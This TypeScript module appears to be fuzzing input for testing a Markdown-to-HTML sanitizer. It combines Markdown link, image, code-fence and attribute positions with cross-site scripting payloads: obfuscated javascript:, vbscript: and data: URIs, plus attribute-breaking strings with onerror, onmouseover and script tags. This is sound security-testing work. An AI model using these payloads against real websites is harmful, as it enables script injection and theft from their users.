import type { Vector } from './html-vectors.ts';

/** Places of HTML in Markdown; `@` stands for it. */
export const MARKDOWN_PLACES: readonly string[] = [
  '@',
  'chữ @ chữ',
  '- @',
  '> @',
  '# @',
  '**@**',
  '[@](https://a.example/)',
  '![@](/media/a.jpg)',
  '| a | b |\n|:--|--:|\n| @ | c |',
  'chú[^1]\n\n[^1]: @',
  'chú^[@]',
  '<div>\n\n@\n\n</div>',
  '<p title="\n@',
  '~~@~~\n===',
  '`@`',
  '```html\n@\n```',
  '    @',
  '\\@',
];

const SCHEMES: readonly Vector[] = [
  code => `javascript:${code}`,
  code => `JAVASCRIPT:${code}`,
  code => `javascript&colon;${code}`,
  code => `&#106;avascript:${code}`,
  code => `&#x6a;avascript&#58;${code}`,
  code => `java&Tab;script:${code}`,
  code => `java&NewLine;script:${code}`,
  code => `\\javascript:${code}`,
  code => `javascript\\:${code}`,
  code => `javas%63ript:${code}`,
  code => `%6aavascript:${code}`,
  code => `javascript:%0a${code}`,
  code => `vbscript:${code}`,
  code => `data:text/html,<script>${code}</script>`,
  code => `data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString('base64')}`,
  code => `data:image/svg+xml,<svg/onload=${code}>`,
  code => `data:image/png;base64,"onerror=${code}//`,
  code => `\u0001javascript:${code}`,
  code => `\u00a0javascript:${code}`,
  code => `https://a.example/"onmouseover="${code}`,
  code => `https://a.example/'onmouseover='${code}`,
  code => `https://a.example/\`onmouseover=${code}`,
  code => `https://a.example/><img/src=x/onerror=${code}>`,
  code => `https://a.example/&quot;onmouseover=&quot;${code}`,
  code => `//khac.example/${code}`,
];
/** Places of an address in Markdown. */
const ADDRESSES: readonly string[] = [
  '[x](@)',
  '[x](<@>)',
  '[x](  @  "t")',
  '[x][a]\n\n[a]: @',
  "[a]\n\n[a]: <@> 't'",
  '![x](@)',
  '![x][a]\n\n[a]: @',
  '[![x](@)](@)',
  '<@>',
  '[x](@ (t))',
  '[`x`](@)',
  '[x\n](@)',
  '[[x](@)](https://a.example/)',
  '[x]()(@)',
  'www.a.example/@',
  '![a](https://a.example/a.jpg "@")',
  '[a](https://a.example/ "@")',
  '<a href="@">\n\nx</a>',
  '[^1]\n\n[^1]: [x](@)',
  '| [x](@) | ![y](@) |\n|---|---|',
];
/** Names, titles and words that end up in an attribute; `@` is what would end it. */
const WORDS: readonly string[] = [
  '```@\nx\n```',
  '~~~ js @\nx\n~~~',
  '```language-@\nx\n```',
  '[x](https://a.example/ "@")',
  "[x](https://a.example/ '@')",
  '[x](https://a.example/ (@))',
  '![@](https://a.example/a.jpg)',
  '![x](https://a.example/a.jpg "@")',
  '[^@]\n\n[^@]: x',
  '# x {#@}',
  '# @',
  '[x]{onclick=@}',
  '<https://a.example/@>',
  '<@@a.example>',
  '| a |\n|@|\n| b |',
  '*[@]: x\n\n@',
];
const BREAKS: readonly Vector[] = [
  code => `" onmouseover="${code}`,
  code => `' onmouseover='${code}`,
  code => `\` onmouseover=${code}`,
  code => `"><img src=x onerror=${code}>`,
  code => `'><svg onload=${code}>`,
  code => `\\"><script>${code}</script>`,
  code => `&quot;><script>${code}</script>`,
  code => `&#34; onfocus=${code} autofocus x=&#34;`,
  code => `x"onerror=${code}//`,
  code => `</code></pre><script>${code}</script>`,
  code => `-->"><script>${code}</script>`,
  code => `]]><script>${code}</script>`,
];

/** Vectors of Markdown's own syntax. */
export function markdownVectors(): readonly Vector[] {
  const crossed = (places: readonly string[], parts: readonly Vector[]): readonly Vector[] =>
    places.flatMap(place =>
      parts.map(
        (part): Vector =>
          code =>
            place.replaceAll('@', () => part(code)),
      ),
    );
  return [...crossed(ADDRESSES, SCHEMES), ...crossed(WORDS, BREAKS)];
}
